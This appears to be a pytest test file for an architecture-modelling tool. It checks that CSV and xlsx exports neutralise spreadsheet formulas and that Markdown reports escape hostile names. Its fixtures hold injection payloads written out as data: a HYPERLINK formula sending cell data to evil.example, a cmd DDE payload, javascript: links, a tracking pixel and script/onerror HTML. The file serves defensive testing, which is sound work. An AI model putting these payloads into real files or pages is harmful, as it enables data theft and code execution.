"""Names that are formulas or markup: spreadsheets must open `ea gap` CSV and xlsx as data, never run a
formula (issue 12.8); Markdown reports must show names as text, never as links, images or HTML (12.9)."""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest

from ea_model.csvsafe import TRIGGERS, neutralise

from .conftest import no_traceback

ARGS = ("gap", "--from", "baseline-2022", "--to", "target-2030", "--date", "2025-01-01")

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A2)",
            "\t=1+1", "\r=1+1", "＝1+1"]
MARKUP = ["[click](javascript:alert(1))", "![](http://tracker.example/pixel.png)", "<img src=x onerror=alert(2)>",
          "`code` and \\[escaped\\]", "[ref]: http://evil.example/"]


def _element(i: int, name: str) -> str:
    quoted = name.replace("\\", "\\\\").replace('"', '\\"').replace("\t", "\\t").replace("\r", "\\r")
    return f"""\
  - id: app-hostile-{i}
    kind: specialised-application
    name: {{vi: "{quoted}", en: "{quoted}"}}
    owner: org-it
    plateaus: [target-2030]
    source: {{doc: doc-test, section: "{quoted}", line: {40 + i}}}
    properties: {{note: "{quoted}"}}
"""


@pytest.fixture
def root(repo):
    names = FORMULAS + MARKUP
    report = """\
        id: hostile
        title: {vi: "[Báo cáo](javascript:alert(3))", en: "![t](http://tracker.example/t.png)"}
        description: {vi: "<script>alert(4)</script> [x](http://evil.example/)", en: "[x](javascript:alert(5))"}
        from: baseline-2022
        to: target-2030
        status: draft
        prepared_by: {name: "=1+1", unit: org-it}
        """
    return repo({"layers/hostile.yaml": "elements:\n" + "".join(_element(i, n) for i, n in enumerate(names)),
                 "gap_analysis/reports/hostile.yaml": report})


def test_neutralise_follows_the_owasp_list():
    for trigger in ("=", "+", "-", "@", "\t", "\r"):
        assert trigger in TRIGGERS and neutralise(trigger + "x") == "'" + trigger + "x"
    assert neutralise("Phần mềm") == "Phần mềm" and neutralise(-3) == -3 and neutralise(None) is None


@pytest.mark.parametrize("lang", ["vi", "en"])
def test_gap_csv_cells_never_start_a_formula(root, ea, lang):
    result = ea(*ARGS, "--format", "csv", "--lang", lang, "--repo", root)
    no_traceback(result)
    assert result.exit_code == 0, result.stderr
    rows = list(csv.reader(io.StringIO(result.output)))
    cells = [c for row in rows for c in row]
    assert not [c for c in cells if c.startswith(TRIGGERS)]
    names = {row[6] for row in rows[1:]}
    for name in FORMULAS:
        assert "'" + name.replace("\r", "\n") in names, name  # kept, behind a quote a spreadsheet hides
    assert "[click](javascript:alert(1))" in names  # CSV is data: markup stays as it is


def test_gap_xlsx_cells_are_text_never_formulas(root, ea, tmp_path):
    path = tmp_path / "gap.xlsx"
    result = ea(*ARGS, "--format", "xlsx", "--out", path, "--repo", root)
    no_traceback(result)
    assert result.exit_code == 0, result.stderr
    wb = openpyxl.load_workbook(path)
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    texts = {c.value for c in cells}
    for name in FORMULAS:
        assert any(str(t).startswith(name) for t in texts), name  # as the model says, as text
    report = tmp_path / "reports"
    result = ea("gap", "--report", "hostile", "--format", "xlsx", "--out", report, "--repo", root)
    assert result.exit_code == 0, result.stderr
    for xlsx in report.glob("*.xlsx"):
        wb = openpyxl.load_workbook(xlsx)
        assert not [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.data_type == "f"]


def _html(markdown: str) -> str:
    """The report as a forge would show it: CommonMark with tables and raw HTML, any link target allowed."""
    from markdown_it import MarkdownIt

    md = MarkdownIt("commonmark", {"html": True}).enable("table")
    md.validateLink = lambda url: True
    return md.render(markdown)


@pytest.mark.parametrize("lang", ["vi", "en"])
def test_markdown_shows_names_as_text_not_links_images_or_html(root, ea, lang):
    result = ea(*ARGS, "--lang", lang, "--repo", root)
    no_traceback(result)
    assert result.exit_code == 0, result.stderr
    html = _html(result.output)
    assert "<a " not in html and "<img" not in html and "<script" not in html
    for name in ("[click](javascript:alert(1))", "![](http://tracker.example/pixel.png)"):
        assert name in html  # shown as written
    assert "&lt;img src=x onerror=alert(2)&gt;" in html
    assert "<code>app-hostile-7</code>" in html  # our own markup still works around escaped names


def test_markdown_report_definition_texts_are_escaped_too(root, ea, tmp_path):
    result = ea("gap", "--report", "hostile", "--format", "md", "--out", tmp_path, "--repo", root)
    no_traceback(result)
    assert result.exit_code == 0, result.stderr
    for lang in ("vi", "en"):
        html = _html((tmp_path / f"hostile.{lang}.md").read_text(encoding="utf-8"))
        assert "<a " not in html and "<img" not in html and "<script" not in html, lang
    vi = (tmp_path / "hostile.vi.md").read_text(encoding="utf-8")
    assert vi.startswith("# \\[Báo cáo\\](javascript:alert(3))")
